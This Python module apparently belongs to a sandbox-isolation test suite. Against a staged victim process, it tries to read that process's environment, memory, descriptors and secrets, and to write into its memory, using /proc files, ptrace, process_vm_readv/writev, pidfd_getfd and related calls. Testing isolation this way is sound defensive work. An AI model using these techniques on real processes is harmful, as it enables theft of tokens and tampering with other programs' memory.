"""Look into, and write into, another process of the same user.

Escape: the token in its environment or memory is read, a descriptor of it is taken, its memory is written.
Trap: the same uid is no boundary; /proc/PID and the pidfd calls are doors besides ptrace.
"""

import ctypes
import os
import re
import struct

from _attack import ARENA, O_PATH, call, leak, read, run

PID = ARENA["victim"]
PROC = f"/proc/{PID}"


def attach(request: int) -> object:
    def act() -> str:
        call("ptrace", request, PID, 0, 0)
        if request == 16:  # it stops; a seized one runs on
            os.waitpid(PID, 0)
            call("ptrace", 17, PID, 0, 0)  # PTRACE_DETACH
        return "attached"

    return act


def _range() -> tuple[int, int]:
    address = int(ARENA["victim_address"])
    return address, 64


def vm(name: str) -> object:
    def act() -> str:
        at, size = _range()
        buf = (
            ctypes.create_string_buffer(size)
            if name.endswith("readv")
            else ctypes.create_string_buffer(b"x", 1)
        )
        n = size if name.endswith("readv") else 1
        at += 0 if name.endswith("readv") else 60
        local = struct.pack("QQ", ctypes.addressof(buf), n)
        remote = struct.pack("QQ", at, n)
        call(name, PID, local, 1, remote, 1, 0)
        return leak(buf.raw) if name.endswith("readv") else "a byte of its memory was written"

    return act


def mem() -> str:
    at, size = _range()
    fd = os.open(PROC + "/mem", os.O_RDONLY)
    return leak(os.pread(fd, size, at))


def mem_write() -> str:
    fd = os.open(PROC + "/mem", os.O_RDWR)
    os.pwrite(fd, b"x", _range()[0] + 61)
    return "a byte of its memory was written"


def take_fd() -> str:
    fd = call("pidfd_getfd", call("pidfd_open", PID, 0), int(ARENA["victim_fd"]), 0)
    return leak(os.pread(fd, 4096, 0))


def madvise() -> str:
    vec = struct.pack("QQ", _range()[0] & ~4095, 4096)
    call("process_madvise", call("pidfd_open", PID, 0), vec, 1, 20, 0)  # MADV_COLD
    return "advised on its memory"


def maps() -> str:
    with open(PROC + "/maps") as f:
        return "its maps are readable" if re.search("r-xp", f.read()) else ""


def fd_dir() -> str:
    return read(f"{PROC}/fd/{ARENA['victim_fd']}")


def children() -> str:
    fd = os.open(PROC, O_PATH | os.O_DIRECTORY)
    return read("environ", dir_fd=fd)


run(
    {
        "environ": lambda: read(PROC + "/environ"),
        "environ of its task": lambda: read(f"{PROC}/task/{PID}/environ"),
        "environ by O_PATH": children,
        "mem": mem,
        "mem written": mem_write,
        "maps": maps,
        "cwd": lambda: read(PROC + "/cwd" + ARENA["secret"]),
        "root": lambda: read(f"{PROC}/root{ARENA['secret']}"),
        "fd": fd_dir,
        "ptrace attach": attach(16),
        "ptrace seize": attach(0x4206),
        "process_vm_readv": vm("process_vm_readv"),
        "process_vm_writev": vm("process_vm_writev"),
        "pidfd_getfd": take_fd,
        "process_madvise": madvise,
        "kcmp": lambda: call("kcmp", os.getpid(), PID, 0, 0, 0) >= 0 and "compared",
    },
    native={
        "process_madvise": "some kernels want CAP_SYS_NICE",
        "kcmp": "not in every kernel",
    },
)
